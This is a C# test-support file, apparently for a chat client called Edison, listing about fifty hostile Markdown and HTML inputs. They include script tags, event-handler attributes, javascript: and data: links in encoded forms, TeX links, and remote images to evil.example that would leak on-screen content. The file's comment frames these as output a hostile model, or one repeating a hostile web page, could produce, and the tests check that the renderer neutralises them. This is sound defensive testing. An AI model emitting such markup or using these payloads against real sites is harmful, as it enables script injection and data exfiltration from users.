namespace Edison.Tests.TestSupport;

/// <summary>
/// Answers a hostile model (or a model repeating a hostile web page) could write. Each one that worked would run
/// script (setting <c>window.__pwned</c>), add an event handler, restyle the page or make the browser fetch a
/// remote host by itself; rendered by Edison, none may.
/// </summary>
public static class HostileMarkdown
{
    public const string Payload = "window.__pwned=1";

    public const string RemoteHost = "evil.example";

    public static IReadOnlyList<(string Name, string Markdown)> Vectors { get; } =
    [
        ("raw script", $"<script>{Payload}</script>"),
        ("raw img onerror", $"Look: <img src=x onerror=\"{Payload}\">"),
        ("raw iframe", $"<iframe src=\"https://{RemoteHost}/\"></iframe>"),
        ("raw javascript anchor", $"<a href=\"javascript:{Payload}\">click</a>"),
        ("raw anchor with onclick", $"<a href=\"https://example.com\" onclick=\"{Payload}\">x</a>"),
        ("javascript link", $"[click](javascript:{Payload})"),
        ("mixed-case javascript link", $"[click](JaVaScRiPt:{Payload})"),
        ("decimal-entity javascript link", $"[click](&#106;avascript:{Payload})"),
        ("entity colon javascript link", $"[click](javascript&#58;{Payload})"),
        ("hex-entity javascript link", "[click](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;" + Payload + ")"),
        ("angle-bracket javascript destination", $"[click](<javascript:{Payload}>)"),
        ("data html link", "[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+)"),
        ("vbscript link", "[click](vbscript:msgbox(1))"),
        ("javascript autolink", $"<javascript:{Payload}>"),
        ("data autolink", $"<data:text/html,<script>{Payload}</script>>"),
        ("javascript reference definition", $"[x]: javascript:{Payload}\n\n[reference][x]"),
        ("javascript image", $"![x](javascript:{Payload})"),
        ("attributes on a link", $"[hover](https://example.com){{onclick=\"{Payload}\" onmouseover=\"{Payload}\"}}"),
        ("attributes on an image", $"![x](/n){{onerror=\"{Payload}\"}}"),
        ("attributes on a heading", $"# Heading {{onmouseover=\"{Payload}\" style=\"position:fixed;inset:0\"}}"),
        ("attributes with a style", $"[x](https://example.com){{style=\"background:url(https://{RemoteHost}/css)\"}}"),
        ("title attribute breakout", $"[a](https://example.com \"a\\\" onmouseover=\\\"{Payload}\")"),
        ("nested brackets", $"[[nested](javascript:{Payload})](https://example.com)"),
        ("remote image", $"![](http://{RemoteHost}/leak?q=what-is-on-screen)"),
        ("remote image with title", $"![tracker](https://{RemoteHost}/pixel.png \"pixel\")"),
        ("image inside a link", $"[![img](https://{RemoteHost}/a.png)](https://example.com)"),
        ("protocol-relative image", $"![x](//{RemoteHost}/b.png)"),
        ("data SVG image", "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9d2luZG93Ll9fcHduZWQ9MT4=)"),
        ("image with size attributes", $"![x](https://{RemoteHost}/c.png){{width=1 height=1}}"),
        ("raw SVG", $"<svg onload=\"{Payload}\"><circle r=10 /></svg>"),
        ("MathML mutation", $"<math><mtext><table><mglyph><style><img src=x onerror=\"{Payload}\">"),
        ("HTML in a code span", $"`<img src=x onerror=\"{Payload}\">`"),
        ("HTML in a fenced block", $"```html\n<script>{Payload}</script>\n```"),
        ("fenced block language breakout", $"```\"><img src=x onerror=\"{Payload}\">\ncode\n```"),
        ("TeX link", $"$\\href{{javascript:{Payload}}}{{click}}$ and \\(\\url{{javascript:{Payload}}}\\)"),
        ("TeX remote image", $"$$\\includegraphics{{https://{RemoteHost}/tex.png}}$$"),
        ("TeX class style and data", "\\[\\htmlClass{mud-overlay}{x} \\htmlStyle{position:fixed;inset:0}{y} \\htmlData{testid=send}{z}\\]"),
        ("TeX raw HTML", $"$<img src=x onerror=\"{Payload}\">$"),
        ("raw style sheet", $"<style>body{{background:url(https://{RemoteHost}/css)}}</style>"),
        ("raw details ontoggle", $"<details open ontoggle=\"{Payload}\">x</details>"),
        ("raw form", $"<form action=\"https://{RemoteHost}\"><input name=q><button>go</button></form>"),
        ("raw meta refresh", $"<meta http-equiv=\"refresh\" content=\"0;url=https://{RemoteHost}\">"),
        ("raw base", $"<base href=\"https://{RemoteHost}/\">"),
        ("raw stylesheet link", $"<link rel=stylesheet href=\"https://{RemoteHost}/x.css\">"),
        ("raw object and embed", $"<object data=\"https://{RemoteHost}/x\"></object><embed src=\"https://{RemoteHost}/y\">"),
        ("raw srcset", $"<img srcset=\"https://{RemoteHost}/a.png 1x\">"),
        ("HTML comment", $"[x](https://example.com)<!-- <img src=x onerror=\"{Payload}\"> -->"),
        ("HTML in a table", $"| a | b |\n|---|---|\n| <img src=x onerror=\"{Payload}\"> | ok |"),
        ("HTML in a task list", $"- [x] <img src=x onerror=\"{Payload}\">\n- [ ] fine"),
        ("script in a footnote", $"Text[^1]\n\n[^1]: <script>{Payload}</script>"),
        ("bare autolink with markup", $"www.{RemoteHost}/?q=<script>{Payload}</script>"),
    ];
}
